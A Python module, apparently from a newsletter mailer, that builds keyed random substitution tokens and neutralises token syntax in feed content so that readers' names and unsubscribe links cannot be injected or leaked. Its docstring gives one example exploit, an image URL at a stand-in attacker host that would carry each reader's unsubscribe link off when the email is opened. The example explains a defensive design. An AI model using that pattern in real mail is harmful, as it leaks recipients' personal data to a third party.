"""Per-recipient substitution tokens: the only places a reader's own values may go.

An edition is rendered once (DESIGN: render once, personalise by substitution); where
the template wants a reader's own value (the greeting with their name, their signed
unsubscribe link) it writes a token, and the send stage fills it: the outbox and SMTP
backends locally (send.base.Letter.message_for), SendGrid from
`personalizations[].substitutions`. Substitution is blind string replacement, so
anything in the copy that spells a token gets the reader's value, wherever it stands.

A feed writes most of the copy. If a token were a fixed string (`%%greeting%%`), a story
titled "%%greeting%%" would be mailed with the reader's name in it, and a picture at
`https://evil.example/px.gif?u=%%unsubscribe_url%%` would hand every reader's signed
unsubscribe link (which carries their address) to a host the feed chose, the moment
the email is opened. So:

1. Every render draws a fresh random key, and its tokens carry it
   (`%%greeting-3f9c0e1d2b4a5968%%`). Content cannot know the key, so it cannot write
   a token; the key is kept with the stored copy (RenderedEdition.token_key) so the
   send fills exactly the tokens that render wrote.
2. Content is made inert at render: `%%` in text becomes `%` WORD JOINER `%` (looks the
   same), and in a URL a `%` that does not start a percent-escape becomes `%25` (what
   RFC 3986 2.4 says a literal % must be anyway). So the mailed copy holds no token
   syntax that the template did not put there, not even an unkeyed one.
3. render.check_html and check_text then refuse a copy in which a token stands anywhere
   but where a template may put it: the unsubscribe token only as a whole `href`, the
   greeting only as text. A template that writes `src="https://x/?u={{
   tokens.unsubscribe_url }}"` fails its render, not a reader.

A copy stored before tokens had keys has token_key "" and the plain tokens; it is
still filled as it was, so a send resumed across an upgrade mails what went out first.
"""

from __future__ import annotations

import functools
import re
import secrets
from dataclasses import dataclass

#: Anything that looks like a substitution token, keyed or not.
TOKEN_SYNTAX = re.compile(r"%%[A-Za-z0-9_.:-]{1,80}%%")

#: U+2060 WORD JOINER: invisible, not a space, breaks `%%` for every substitution engine.
_JOINER = "\u2060"
_BARE_PERCENT = re.compile(r"%(?![0-9A-Fa-f]{2})")


def new_key() -> str:
    """A fresh key for one render: 64 random bits, unguessable by a feed."""
    return secrets.token_hex(8)


@dataclass(frozen=True)
class Tokens:
    """The tokens of one rendered copy, by what they stand for."""

    key: str = ""

    def _token(self, name: str) -> str:
        return f"%%{name}-{self.key}%%" if self.key else f"%%{name}%%"

    # Cached: a send asks for them once per recipient.
    @functools.cached_property
    def greeting(self) -> str:
        """The greeting, HTML-escaped: for the HTML part."""
        return self._token("greeting")

    @functools.cached_property
    def greeting_text(self) -> str:
        """The greeting as plain text: for the text part. SendGrid applies every
        substitution to every part, so the two parts need different tokens."""
        return self._token("greeting_text")

    @functools.cached_property
    def unsubscribe_url(self) -> str:
        return self._token("unsubscribe_url")

    @functools.cached_property
    def reader(self) -> str:
        """The reader's part of a first-party click link (`[web]
        click_tracking_per_reader`: digest.clicks); render puts it at the end of the
        story links' hrefs, never where a template writes."""
        return self._token("reader")

    def for_html(self) -> dict[str, str]:
        """What the MJML template sees as `tokens`."""
        return {"greeting": self.greeting, "unsubscribe_url": self.unsubscribe_url}

    def for_text(self) -> dict[str, str]:
        """What the text template sees as `tokens`."""
        return {"greeting": self.greeting_text, "unsubscribe_url": self.unsubscribe_url}

    def values(
        self, greeting_html: str, greeting_text: str, unsubscribe_url: str, reader: str = ""
    ) -> dict[str, str]:
        """Token -> value, for one reader (or for a preview that is nobody's); the
        reader's click-link part only when given (a copy with per-reader click links)."""
        values = {
            self.greeting: greeting_html,
            self.greeting_text: greeting_text,
            self.unsubscribe_url: unsubscribe_url,
        }
        if reader:
            values[self.reader] = reader
        return values


def inert_text(value: str) -> str:
    """Text from a source, with no token syntax left in it."""
    return value.replace("%%", f"%{_JOINER}%") if "%%" in value else value


def inert_url(value: str) -> str:
    """A URL from a source, with every `%` that is not a percent-escape escaped."""
    return _BARE_PERCENT.sub("%25", value) if "%" in value else value


def fill(text: str, values: dict[str, str]) -> str:
    """Replace each token with its value (the outbox, SMTP and previews)."""
    for token, value in values.items():
        if token in text:
            text = text.replace(token, value)
    return text
